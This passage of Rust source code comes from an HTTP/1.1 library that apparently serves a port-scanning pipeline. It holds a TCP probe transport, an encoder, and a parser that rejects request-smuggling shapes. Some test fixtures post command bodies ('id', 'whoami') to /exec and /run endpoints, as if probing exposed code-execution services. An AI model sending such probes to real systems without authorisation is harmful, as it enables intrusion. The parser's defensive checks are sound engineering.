                probed,
                addresses_probed: block.size(),
                bulk_closed: 0,
            }
        }
    }
}

/// Real-socket transport backed by tokio TCP. HTTPS is rejected — the real
/// transport exists to prove the pipeline runs on actual sockets (see the
/// `live_scan` example), and the locally served app models speak plain HTTP.
#[derive(Debug, Clone)]
pub struct TcpTransport {
    /// Deadline for both probes and connects.
    pub connect_timeout: Duration,
}

impl Default for TcpTransport {
    fn default() -> Self {
        TcpTransport {
            connect_timeout: Duration::from_secs(3),
        }
    }
}

impl Connection for tokio::net::TcpStream {}

impl Transport for TcpTransport {
    type Conn = tokio::net::TcpStream;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        let fut = tokio::net::TcpStream::connect((ep.ip, ep.port));
        match tokio::time::timeout(self.connect_timeout, fut).await {
            Ok(Ok(_stream)) => ProbeOutcome::Open,
            Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionRefused => ProbeOutcome::Closed,
            Ok(Err(_)) => ProbeOutcome::Filtered,
            Err(_) => ProbeOutcome::Filtered,
        }
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<Self::Conn> {
        if scheme == Scheme::Https {
            return Err(Error::SchemeUnsupported);
        }
        let fut = tokio::net::TcpStream::connect((ep.ip, ep.port));
        match tokio::time::timeout(self.connect_timeout, fut).await {
            Ok(Ok(stream)) => Ok(stream),
            Ok(Err(e)) => Err(Error::Connect(e.to_string())),
            Err(_) => Err(Error::Timeout),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    #[test]
    fn scheme_defaults() {
        assert_eq!(Scheme::Http.default_port(), 80);
        assert_eq!(Scheme::Https.default_port(), 443);
        assert_eq!(Scheme::Https.as_str(), "https");
    }

    #[test]
    fn endpoint_display() {
        let ep = Endpoint::new(Ipv4Addr::new(192, 0, 2, 7), 8080);
        assert_eq!(ep.to_string(), "192.0.2.7:8080");
    }

    #[tokio::test]
    async fn tcp_probe_open_and_closed() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let t = TcpTransport::default();
        let open = t.probe(Endpoint::new(Ipv4Addr::LOCALHOST, port)).await;
        assert_eq!(open, ProbeOutcome::Open);
        drop(listener);
        let closed = t.probe(Endpoint::new(Ipv4Addr::LOCALHOST, port)).await;
        assert_eq!(closed, ProbeOutcome::Closed);
    }

    #[tokio::test]
    async fn tcp_connect_round_trip() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let server = tokio::spawn(async move {
            let (mut s, _) = listener.accept().await.unwrap();
            let mut buf = [0u8; 4];
            s.read_exact(&mut buf).await.unwrap();
            s.write_all(&buf).await.unwrap();
        });
        let t = TcpTransport::default();
        let mut conn = t
            .connect(Endpoint::new(Ipv4Addr::LOCALHOST, port), Scheme::Http)
            .await
            .unwrap();
        conn.write_all(b"ping").await.unwrap();
        let mut buf = [0u8; 4];
        conn.read_exact(&mut buf).await.unwrap();
        assert_eq!(&buf, b"ping");
        server.await.unwrap();
    }

    #[tokio::test]
    async fn tcp_rejects_https() {
        let t = TcpTransport::default();
        let err = t
            .connect(Endpoint::new(Ipv4Addr::LOCALHOST, 1), Scheme::Https)
            .await
            .unwrap_err();
        assert_eq!(err, Error::SchemeUnsupported);
    }
}
