//! HTTP/1.1 message serialization.

use crate::request::Request;
use crate::response::Response;
use bytes::{BufMut, Bytes, BytesMut};

/// Serialize a request in origin form. A `Content-Length` header is added
/// for non-empty bodies unless the caller already set explicit framing.
pub fn encode_request(req: &Request) -> Bytes {
    let mut buf = BytesMut::with_capacity(128 + req.body.len());
    buf.put_slice(req.method.as_str().as_bytes());
    buf.put_u8(b' ');
    buf.put_slice(req.target.as_bytes());
    buf.put_slice(b" HTTP/1.1\r\n");
    for (n, v) in req.headers.iter() {
        buf.put_slice(n.as_bytes());
        buf.put_slice(b": ");
        buf.put_slice(v.as_bytes());
        buf.put_slice(b"\r\n");
    }
    if !req.body.is_empty() && !req.headers.contains("content-length") && !req.headers.is_chunked()
    {
        buf.put_slice(format!("Content-Length: {}\r\n", req.body.len()).as_bytes());
    }
    buf.put_slice(b"\r\n");
    buf.put_slice(&req.body);
    buf.freeze()
}

/// Serialize a response. `Content-Length` is always emitted (even for empty
/// bodies) unless the message is chunked, so clients never need
/// read-to-close framing for our own servers.
pub fn encode_response(resp: &Response) -> Bytes {
    let mut buf = BytesMut::with_capacity(128 + resp.body.len());
    buf.put_slice(b"HTTP/1.1 ");
    buf.put_slice(resp.status.as_u16().to_string().as_bytes());
    let reason = resp.status.reason();
    if !reason.is_empty() {
        buf.put_u8(b' ');
        buf.put_slice(reason.as_bytes());
    }
    buf.put_slice(b"\r\n");
    for (n, v) in resp.headers.iter() {
        buf.put_slice(n.as_bytes());
        buf.put_slice(b": ");
        buf.put_slice(v.as_bytes());
        buf.put_slice(b"\r\n");
    }
    // 1xx, 204 and 304 responses never carry a body (RFC 9110 §6.4.1).
    let code = resp.status.as_u16();
    let bodyless = (100..200).contains(&code) || code == 204 || code == 304;
    if !bodyless && !resp.headers.contains("content-length") && !resp.headers.is_chunked() {
        buf.put_slice(format!("Content-Length: {}\r\n", resp.body.len()).as_bytes());
    }
    buf.put_slice(b"\r\n");
    if !bodyless {
        buf.put_slice(&resp.body);
    }
    buf.freeze()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::{parse_request, parse_response, Limits, Parsed};
    use crate::status::StatusCode;

    #[test]
    fn request_round_trip() {
        let req = Request::post("/run", "id").with_header("Host", "10.0.0.1");
        let wire = encode_request(&req);
        let Parsed::Complete(back, used) = parse_request(&wire, &Limits::default()).unwrap() else {
            panic!();
        };
        assert_eq!(used, wire.len());
        assert_eq!(back.method, req.method);
        assert_eq!(back.target, req.target);
        assert_eq!(back.body, req.body);
        assert_eq!(back.headers.content_length().unwrap(), Some(2));
    }

    #[test]
    fn response_round_trip() {
        let resp = Response::html("<title>Polynote</title>").with_header("Server", "sim");
        let wire = encode_response(&resp);
        let Parsed::Complete(back, used) =
            parse_response(&wire, false, false, &Limits::default()).unwrap()
        else {
            panic!();
        };
        assert_eq!(used, wire.len());
        assert_eq!(back.status, StatusCode::OK);
        assert_eq!(back.body, resp.body);
        assert_eq!(back.headers.get("server"), Some("sim"));
    }

    #[test]
    fn empty_body_still_has_explicit_length() {
        let wire = encode_response(&Response::new(StatusCode::NOT_FOUND));
        let text = String::from_utf8(wire.to_vec()).unwrap();
        assert!(text.contains("Content-Length: 0\r\n"), "{text}");
    }

    #[test]
    fn explicit_content_length_not_duplicated() {
        let resp = Response::new(StatusCode::OK)
            .with_header("Content-Length", "2")
            .with_body("ok");
        let wire = encode_response(&resp);
        let text = String::from_utf8(wire.to_vec()).unwrap();
        assert_eq!(text.matches("Content-Length").count(), 1);
    }

    #[test]
    fn get_request_has_no_length_header() {
        let wire = encode_request(&Request::get("/"));
        let text = String::from_utf8(wire.to_vec()).unwrap();
        assert!(!text.contains("Content-Length"));
        assert!(text.starts_with("GET / HTTP/1.1\r\n"));
    }
}
