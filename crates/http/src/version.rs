//! HTTP protocol version.
//!
//! The stack only speaks HTTP/1.0 and HTTP/1.1 (the parser rejects
//! anything else), but the distinction matters for connection lifecycle:
//! an HTTP/1.0 peer defaults to one-message-per-connection unless it
//! opts into `Connection: keep-alive`, while HTTP/1.1 defaults to
//! persistent connections unless a `Connection: close` token appears.

/// The protocol version a message was framed with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Version {
    Http10,
    Http11,
}

impl Default for Version {
    /// Messages built in code (as opposed to parsed off the wire) are
    /// HTTP/1.1 — the only version the encoder emits.
    fn default() -> Self {
        Version::Http11
    }
}

impl Version {
    /// The wire spelling, e.g. `HTTP/1.1`.
    pub fn as_str(self) -> &'static str {
        match self {
            Version::Http10 => "HTTP/1.0",
            Version::Http11 => "HTTP/1.1",
        }
    }

    /// Whether the connection persists after a message of this version,
    /// before any `Connection` header is considered: true for HTTP/1.1,
    /// false for HTTP/1.0 (RFC 9112 §9.3).
    pub fn keep_alive_by_default(self) -> bool {
        matches!(self, Version::Http11)
    }
}

impl std::fmt::Display for Version {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for Version {
    type Err = ();

    fn from_str(s: &str) -> std::result::Result<Self, ()> {
        match s {
            "HTTP/1.0" => Ok(Version::Http10),
            "HTTP/1.1" => Ok(Version::Http11),
            _ => Err(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_is_http11() {
        assert_eq!(Version::default(), Version::Http11);
        assert!(Version::Http11.keep_alive_by_default());
        assert!(!Version::Http10.keep_alive_by_default());
    }

    #[test]
    fn wire_spelling_round_trips() {
        for v in [Version::Http10, Version::Http11] {
            assert_eq!(v.as_str().parse::<Version>(), Ok(v));
        }
        assert_eq!("HTTP/2".parse::<Version>(), Err(()));
        assert_eq!(Version::Http10.to_string(), "HTTP/1.0");
    }
}
