//! Incremental HTTP/1.1 message parser.
//!
//! The parser consumes bytes from a growable buffer and reports either
//! "need more bytes" or a complete message. It supports `Content-Length`
//! bodies, `chunked` transfer encoding and read-to-close responses, which
//! covers everything encountered by the scanning pipeline.

use crate::error::{Error, Result};
use crate::headers::Headers;
use crate::method::Method;
use crate::request::Request;
use crate::response::Response;
use crate::status::StatusCode;
use crate::version::Version;
use bytes::Bytes;

/// Limits applied while parsing; generous defaults match the client's
/// "behave like a web crawler" posture.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Maximum size of the head (start line + headers) in bytes.
    pub max_head: usize,
    /// Maximum body size in bytes.
    pub max_body: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_head: 32 * 1024,
            max_body: 4 * 1024 * 1024,
        }
    }
}

/// Outcome of a parse attempt over a (possibly incomplete) buffer.
#[derive(Debug, PartialEq, Eq)]
pub enum Parsed<T> {
    /// A complete message plus the number of bytes it consumed.
    Complete(T, usize),
    /// More bytes are required before a verdict is possible.
    Partial,
}

/// Incremental finder for the head terminator (`\r\n\r\n`).
///
/// Re-scanning the whole buffer on every feed makes trickled input O(n²);
/// the scanner instead remembers how far previous calls got and only
/// examines new bytes. It also rejects an unterminated head the moment the
/// buffered prefix crosses `Limits::max_head`, instead of buffering an
/// arbitrarily long head while still reporting `Partial`.
///
/// One scanner tracks one message: callers that parse several messages off
/// the same connection must [`HeadScanner::reset`] after consuming a
/// message from the front of the buffer (offsets shift).
#[derive(Debug, Clone, Copy, Default)]
pub struct HeadScanner {
    /// Buffer offset below which `\r\n\r\n` is known not to start.
    scanned: usize,
    /// Cached terminator offset (one past `\r\n\r\n`) once found.
    head_end: Option<usize>,
}

impl HeadScanner {
    /// A scanner positioned at the start of a message.
    pub fn new() -> Self {
        Self::default()
    }

    /// Find the offset one past the head terminator, scanning only bytes
    /// that previous calls have not examined. Returns `Ok(None)` while the
    /// head is incomplete and within limits.
    pub fn find(&mut self, buf: &[u8], limits: &Limits) -> Result<Option<usize>> {
        if let Some(end) = self.head_end {
            return Ok(Some(end));
        }
        // A terminator spanning the old/new boundary can start at most
        // three bytes before the previously scanned frontier.
        let from = self.scanned.saturating_sub(3);
        if let Some(idx) = buf[from..].windows(4).position(|w| w == b"\r\n\r\n") {
            let end = from + idx + 4;
            if end > limits.max_head {
                return Err(Error::TooLarge {
                    what: "head",
                    limit: limits.max_head,
                });
            }
            self.head_end = Some(end);
            return Ok(Some(end));
        }
        self.scanned = buf.len();
        if buf.len() > limits.max_head {
            return Err(Error::TooLarge {
                what: "head",
                limit: limits.max_head,
            });
        }
        Ok(None)
    }

    /// Forget all progress, ready for the next message on the connection.
    pub fn reset(&mut self) {
        *self = Self::default();
    }
}

/// Parse the header block (everything after the start line).
fn parse_header_lines(block: &str) -> Result<Headers> {
    let mut headers = Headers::new();
    for line in block.split("\r\n").filter(|l| !l.is_empty()) {
        let (name, value) = line
            .split_once(':')
            .ok_or(Error::Malformed("header line"))?;
        if name.is_empty() || name.contains(' ') {
            return Err(Error::Malformed("header name"));
        }
        headers.append(name, value.trim());
    }
    Ok(headers)
}

/// How the body length of a message is determined.
#[derive(Debug, PartialEq, Eq)]
enum BodyFraming {
    None,
    Length(usize),
    Chunked,
    /// Response bodies without explicit framing run until connection close.
    ToEof,
}

fn response_framing(
    status: StatusCode,
    method_was_head: bool,
    headers: &Headers,
) -> Result<BodyFraming> {
    // Validate `Content-Length` before anything else, including on bodyless
    // and chunked messages: a malformed length must fail hard rather than
    // silently falling through to read-to-close framing.
    let length = headers.content_length()?;
    if method_was_head
        || status == StatusCode::NO_CONTENT
        || (100..200).contains(&status.as_u16())
        || status.as_u16() == 304
    {
        return Ok(BodyFraming::None);
    }
    if headers.is_chunked() {
        // RFC 9112 §6.3: Transfer-Encoding wins over Content-Length.
        return Ok(BodyFraming::Chunked);
    }
    Ok(match length {
        Some(n) => BodyFraming::Length(n),
        None => BodyFraming::ToEof,
    })
}

fn request_framing(headers: &Headers) -> Result<BodyFraming> {
    let length = headers.content_length()?;
    if headers.is_chunked() {
        // RFC 9112 §6.1: a request carrying both Transfer-Encoding and
        // Content-Length is the request-smuggling primitive — reject it.
        if length.is_some() {
            return Err(Error::Malformed("content-length with chunked"));
        }
        return Ok(BodyFraming::Chunked);
    }
    Ok(match length {
        Some(n) => BodyFraming::Length(n),
        None => BodyFraming::None,
    })
}

/// Decode a chunked body starting at `buf[start..]`.
///
/// Returns the decoded body and the offset one past the terminating
/// zero-chunk, or `Partial` if incomplete.
fn decode_chunked(buf: &[u8], start: usize, limits: &Limits) -> Result<Parsed<Vec<u8>>> {
    let mut pos = start;
    let mut body = Vec::new();
    loop {
        let rest = &buf[pos..];
        let Some(line_end) = rest.windows(2).position(|w| w == b"\r\n") else {
            return Ok(Parsed::Partial);
        };
        let size_line = std::str::from_utf8(&rest[..line_end])
            .map_err(|_| Error::Malformed("chunk size encoding"))?;
        // Chunk extensions (";ext=...") are permitted and ignored.
        let size_str = size_line.split(';').next().unwrap_or("").trim();
        let size =
            usize::from_str_radix(size_str, 16).map_err(|_| Error::Malformed("chunk size"))?;
        pos += line_end + 2;
        if size == 0 {
            // Trailer section: skip until the blank line.
            let rest = &buf[pos..];
            let Some(end) = rest.windows(2).position(|w| w == b"\r\n") else {
                return Ok(Parsed::Partial);
            };
            if end == 0 {
                return Ok(Parsed::Complete(body, pos + 2));
            }
            // There are trailers; find the terminating CRLFCRLF.
            let Some(tend) = rest.windows(4).position(|w| w == b"\r\n\r\n") else {
                return Ok(Parsed::Partial);
            };
            return Ok(Parsed::Complete(body, pos + tend + 4));
        }
        if body.len() + size > limits.max_body {
            return Err(Error::TooLarge {
                what: "body",
                limit: limits.max_body,
            });
        }
        if buf.len() < pos + size + 2 {
            return Ok(Parsed::Partial);
        }
        body.extend_from_slice(&buf[pos..pos + size]);
        if &buf[pos + size..pos + size + 2] != b"\r\n" {
            return Err(Error::Malformed("chunk terminator"));
        }
        pos += size + 2;
    }
}

/// Attempt to parse a complete response from `buf`.
///
/// `eof` indicates the peer closed the connection (needed for
/// read-to-close bodies). `head_method` tells the parser whether the
/// request was `HEAD`.
pub fn parse_response(
    buf: &[u8],
    eof: bool,
    head_method: bool,
    limits: &Limits,
) -> Result<Parsed<Response>> {
    parse_response_incremental(buf, eof, head_method, limits, &mut HeadScanner::new())
}

/// Like [`parse_response`], but resumes head scanning from where the
/// caller's [`HeadScanner`] left off — feed loops stay O(n) on trickled
/// input instead of re-scanning the buffer from the start every read.
pub fn parse_response_incremental(
    buf: &[u8],
    eof: bool,
    head_method: bool,
    limits: &Limits,
    scanner: &mut HeadScanner,
) -> Result<Parsed<Response>> {
    let Some(head_end) = scanner.find(buf, limits)? else {
        if eof {
            return Err(Error::UnexpectedEof);
        }
        return Ok(Parsed::Partial);
    };

    let head =
        std::str::from_utf8(&buf[..head_end - 4]).map_err(|_| Error::Malformed("head encoding"))?;
    let (status_line, header_block) = match head.split_once("\r\n") {
        Some((s, h)) => (s, h),
        None => (head, ""),
    };

    // Status line: HTTP/1.x SP code SP reason.
    let mut parts = status_line.splitn(3, ' ');
    let version: Version = parts
        .next()
        .unwrap_or("")
        .parse()
        .map_err(|()| Error::Malformed("http version"))?;
    let code: u16 = parts
        .next()
        .ok_or(Error::Malformed("status code"))?
        .parse()
        .map_err(|_| Error::Malformed("status code"))?;
    if !(100..600).contains(&code) {
        return Err(Error::Malformed("status code range"));
    }
    let status = StatusCode(code);
    let headers = parse_header_lines(header_block)?;

    match response_framing(status, head_method, &headers)? {
        BodyFraming::None => Ok(Parsed::Complete(
            Response {
                status,
                version,
                headers,
                body: Bytes::new(),
            },
            head_end,
        )),
        BodyFraming::Length(n) => {
            if n > limits.max_body {
                return Err(Error::TooLarge {
                    what: "body",
                    limit: limits.max_body,
                });
            }
            if buf.len() < head_end + n {
                if eof {
                    return Err(Error::UnexpectedEof);
                }
                return Ok(Parsed::Partial);
            }
            let body = Bytes::copy_from_slice(&buf[head_end..head_end + n]);
            Ok(Parsed::Complete(
                Response {
                    status,
                    version,
                    headers,
                    body,
                },
                head_end + n,
            ))
        }
        BodyFraming::Chunked => match decode_chunked(buf, head_end, limits)? {
            Parsed::Complete(body, consumed) => Ok(Parsed::Complete(
                Response {
                    status,
                    version,
                    headers,
                    body: Bytes::from(body),
                },
                consumed,
            )),
            Parsed::Partial => {
                if eof {
                    Err(Error::UnexpectedEof)
                } else {
                    Ok(Parsed::Partial)
                }
            }
        },
        BodyFraming::ToEof => {
            if !eof {
                if buf.len() - head_end > limits.max_body {
                    return Err(Error::TooLarge {
                        what: "body",
                        limit: limits.max_body,
                    });
                }
                return Ok(Parsed::Partial);
            }
            let body = &buf[head_end..];
            if body.len() > limits.max_body {
                return Err(Error::TooLarge {
                    what: "body",
                    limit: limits.max_body,
                });
            }
            Ok(Parsed::Complete(
                Response {
                    status,
                    version,
                    headers,
                    body: Bytes::copy_from_slice(body),
                },
                buf.len(),
            ))
        }
    }
}

/// Attempt to parse a complete request from `buf`.
pub fn parse_request(buf: &[u8], limits: &Limits) -> Result<Parsed<Request>> {
    parse_request_incremental(buf, limits, &mut HeadScanner::new())
}

/// Like [`parse_request`], but resumes head scanning from where the
/// caller's [`HeadScanner`] left off. Reset the scanner after consuming a
/// complete request from the front of the buffer.
pub fn parse_request_incremental(
    buf: &[u8],
    limits: &Limits,
    scanner: &mut HeadScanner,
) -> Result<Parsed<Request>> {
    let Some(head_end) = scanner.find(buf, limits)? else {
        return Ok(Parsed::Partial);
    };

    let head =
        std::str::from_utf8(&buf[..head_end - 4]).map_err(|_| Error::Malformed("head encoding"))?;
    let (request_line, header_block) = match head.split_once("\r\n") {
        Some((s, h)) => (s, h),
        None => (head, ""),
    };

    let mut parts = request_line.split(' ');
    let method: Method = parts
        .next()
        .unwrap_or("")
        .parse()
        .map_err(|_| Error::Malformed("method"))?;
    let target = parts
        .next()
        .ok_or(Error::Malformed("request target"))?
        .to_string();
    if target.is_empty() || (!target.starts_with('/') && target != "*") {
        return Err(Error::Malformed("request target form"));
    }
    let version: Version = parts
        .next()
        .ok_or(Error::Malformed("http version"))?
        .parse()
        .map_err(|()| Error::Malformed("http version"))?;
    if parts.next().is_some() {
        return Err(Error::Malformed("request line"));
    }
    let headers = parse_header_lines(header_block)?;

    match request_framing(&headers)? {
        BodyFraming::None | BodyFraming::ToEof => Ok(Parsed::Complete(
            Request {
                method,
                target,
                version,
                headers,
                body: Bytes::new(),
            },
            head_end,
        )),
        BodyFraming::Length(n) => {
            if n > limits.max_body {
                return Err(Error::TooLarge {
                    what: "body",
                    limit: limits.max_body,
                });
            }
            if buf.len() < head_end + n {
                return Ok(Parsed::Partial);
            }
            let body = Bytes::copy_from_slice(&buf[head_end..head_end + n]);
            Ok(Parsed::Complete(
                Request {
                    method,
                    target,
                    version,
                    headers,
                    body,
                },
                head_end + n,
            ))
        }
        BodyFraming::Chunked => match decode_chunked(buf, head_end, limits)? {
            Parsed::Complete(body, consumed) => Ok(Parsed::Complete(
                Request {
                    method,
                    target,
                    version,
                    headers,
                    body: Bytes::from(body),
                },
                consumed,
            )),
            Parsed::Partial => Ok(Parsed::Partial),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn limits() -> Limits {
        Limits::default()
    }

    #[test]
    fn parses_simple_response() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nhello";
        let Parsed::Complete(resp, used) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!("expected complete");
        };
        assert_eq!(used, raw.len());
        assert_eq!(resp.status, StatusCode::OK);
        assert_eq!(resp.body_text(), "hello");
        assert_eq!(resp.headers.get("content-type"), Some("text/plain"));
    }

    #[test]
    fn partial_until_body_arrives() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhel";
        assert_eq!(
            parse_response(raw, false, false, &limits()).unwrap(),
            Parsed::Partial
        );
    }

    #[test]
    fn eof_mid_body_is_an_error() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhel";
        assert_eq!(
            parse_response(raw, true, false, &limits()).unwrap_err(),
            Error::UnexpectedEof
        );
    }

    #[test]
    fn read_to_close_body() {
        let raw = b"HTTP/1.0 200 OK\r\n\r\nall the bytes";
        assert_eq!(
            parse_response(raw, false, false, &limits()).unwrap(),
            Parsed::Partial
        );
        let Parsed::Complete(resp, _) = parse_response(raw, true, false, &limits()).unwrap() else {
            panic!();
        };
        assert_eq!(resp.body_text(), "all the bytes");
    }

    #[test]
    fn head_response_has_no_body() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n";
        let Parsed::Complete(resp, used) = parse_response(raw, false, true, &limits()).unwrap()
        else {
            panic!();
        };
        assert!(resp.body.is_empty());
        assert_eq!(used, raw.len());
    }

    #[test]
    fn chunked_response_decodes() {
        let raw = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n";
        let Parsed::Complete(resp, used) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.body_text(), "hello world");
        assert_eq!(used, raw.len());
    }

    #[test]
    fn chunked_with_extensions_and_trailers() {
        let raw = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;ext=1\r\nabc\r\n0\r\nX-Sum: 3\r\n\r\n";
        let Parsed::Complete(resp, used) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.body_text(), "abc");
        assert_eq!(used, raw.len());
    }

    #[test]
    fn chunked_partial() {
        let raw = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhel";
        assert_eq!(
            parse_response(raw, false, false, &limits()).unwrap(),
            Parsed::Partial
        );
    }

    #[test]
    fn wire_version_is_captured() {
        let raw = b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok";
        let Parsed::Complete(resp, _) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.version, Version::Http10);

        let raw = b"GET / HTTP/1.0\r\nHost: h\r\n\r\n";
        let Parsed::Complete(req, _) = parse_request(raw, &limits()).unwrap() else {
            panic!();
        };
        assert_eq!(req.version, Version::Http10);
        assert_eq!(
            Request::get("/").version,
            Version::Http11,
            "constructed messages default to 1.1"
        );
    }

    #[test]
    fn rejects_bad_status_lines() {
        for raw in [
            &b"HTTP/2 200 OK\r\n\r\n"[..],
            &b"HTTP/1.1 abc OK\r\n\r\n"[..],
            &b"HTTP/1.1 42 OK\r\n\r\n"[..],
        ] {
            assert!(
                parse_response(raw, true, false, &limits()).is_err(),
                "{raw:?}"
            );
        }
    }

    #[test]
    fn head_limit_enforced() {
        let small = Limits {
            max_head: 16,
            max_body: 1024,
        };
        let raw = b"HTTP/1.1 200 OK\r\nX-Long-Header-Name: value\r\n\r\n";
        assert!(matches!(
            parse_response(raw, false, false, &small),
            Err(Error::TooLarge { what: "head", .. })
        ));
    }

    #[test]
    fn body_limit_enforced_via_content_length() {
        let small = Limits {
            max_head: 1024,
            max_body: 4,
        };
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n0123456789";
        assert!(matches!(
            parse_response(raw, false, false, &small),
            Err(Error::TooLarge { what: "body", .. })
        ));
    }

    #[test]
    fn parses_request_with_body() {
        let raw = b"POST /exec HTTP/1.1\r\nHost: h\r\nContent-Length: 6\r\n\r\nwhoami";
        let Parsed::Complete(req, used) = parse_request(raw, &limits()).unwrap() else {
            panic!();
        };
        assert_eq!(used, raw.len());
        assert_eq!(req.method, Method::Post);
        assert_eq!(req.target, "/exec");
        assert_eq!(req.body_text(), "whoami");
    }

    #[test]
    fn request_without_length_has_empty_body() {
        let raw = b"GET /a?b=1 HTTP/1.1\r\nHost: h\r\n\r\n";
        let Parsed::Complete(req, _) = parse_request(raw, &limits()).unwrap() else {
            panic!();
        };
        assert!(req.body.is_empty());
        assert_eq!(req.query(), Some("b=1"));
    }

    #[test]
    fn rejects_bad_request_lines() {
        for raw in [
            &b"FETCH / HTTP/1.1\r\n\r\n"[..],
            &b"GET HTTP/1.1\r\n\r\n"[..],
            &b"GET /a b HTTP/1.1\r\n\r\n"[..],
            &b"GET noslash HTTP/1.1\r\n\r\n"[..],
        ] {
            assert!(parse_request(raw, &limits()).is_err(), "{raw:?}");
        }
    }

    #[test]
    fn malformed_content_length_is_a_hard_error() {
        // Each of these used to silently fall through to read-to-close
        // framing, mis-attributing whatever follows to the body.
        for raw in [
            &b"HTTP/1.1 200 OK\r\nContent-Length: +5\r\n\r\nhello"[..],
            &b"HTTP/1.1 200 OK\r\nContent-Length: nope\r\n\r\n"[..],
            &b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n"[..],
            &b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999999999\r\n\r\n"[..],
        ] {
            assert!(
                matches!(
                    parse_response(raw, false, false, &limits()),
                    Err(Error::Malformed(_))
                ),
                "{raw:?}"
            );
        }
    }

    #[test]
    fn malformed_content_length_rejected_even_when_chunked_or_bodyless() {
        // Chunked framing must not mask a malformed length...
        let raw =
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: x\r\n\r\n0\r\n\r\n";
        assert!(matches!(
            parse_response(raw, false, false, &limits()),
            Err(Error::Malformed(_))
        ));
        // ...and neither must a bodyless status.
        let raw = b"HTTP/1.1 204 No Content\r\nContent-Length: +0\r\n\r\n";
        assert!(matches!(
            parse_response(raw, false, false, &limits()),
            Err(Error::Malformed(_))
        ));
    }

    #[test]
    fn request_with_both_length_and_chunked_is_rejected() {
        // The classic CL.TE smuggling shape.
        let raw = b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
        assert_eq!(
            parse_request(raw, &limits()).unwrap_err(),
            Error::Malformed("content-length with chunked")
        );
    }

    #[test]
    fn agreeing_duplicate_content_lengths_still_parse() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello";
        let Parsed::Complete(resp, used) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.body_text(), "hello");
        assert_eq!(used, raw.len());
    }

    #[test]
    fn scanner_resumes_instead_of_rescanning() {
        let raw = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
        let mut scanner = HeadScanner::new();
        // Feed byte by byte; every step must agree with the stateless parse.
        for n in 1..raw.len() {
            assert_eq!(
                parse_response_incremental(&raw[..n], false, false, &limits(), &mut scanner)
                    .unwrap(),
                Parsed::Partial,
                "at {n}"
            );
        }
        let Parsed::Complete(resp, used) =
            parse_response_incremental(raw, false, false, &limits(), &mut scanner).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.body_text(), "hello");
        assert_eq!(used, raw.len());
    }

    #[test]
    fn scanner_fails_oversized_head_while_still_partial() {
        let small = Limits {
            max_head: 16,
            max_body: 1024,
        };
        // No terminator anywhere — the old stateless loop only failed once
        // the *complete* head arrived; the scanner fails as soon as the
        // buffered prefix crosses the limit.
        let raw = b"HTTP/1.1 200 OK\r\nX-Pad: aaaaaaaaaaaaaaaa";
        let mut scanner = HeadScanner::new();
        let mut failed_at = None;
        for n in 1..=raw.len() {
            match parse_response_incremental(&raw[..n], false, false, &small, &mut scanner) {
                Ok(Parsed::Partial) => {}
                Err(Error::TooLarge { what: "head", .. }) => {
                    failed_at = Some(n);
                    break;
                }
                other => panic!("unexpected: {other:?}"),
            }
        }
        assert_eq!(failed_at, Some(small.max_head + 1));
    }

    #[test]
    fn scanner_reset_handles_pipelined_messages() {
        let raw = b"GET /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n";
        let mut scanner = HeadScanner::new();
        let Parsed::Complete(first, used) =
            parse_request_incremental(raw, &limits(), &mut scanner).unwrap()
        else {
            panic!();
        };
        assert_eq!(first.target, "/a");
        scanner.reset();
        let Parsed::Complete(second, _) =
            parse_request_incremental(&raw[used..], &limits(), &mut scanner).unwrap()
        else {
            panic!();
        };
        assert_eq!(second.target, "/b");
    }

    #[test]
    fn scanner_finds_terminator_split_across_feeds() {
        let raw = b"HTTP/1.1 204 No Content\r\n\r\n";
        // Split inside the terminator so the boundary rescan matters.
        for cut in raw.len() - 3..raw.len() {
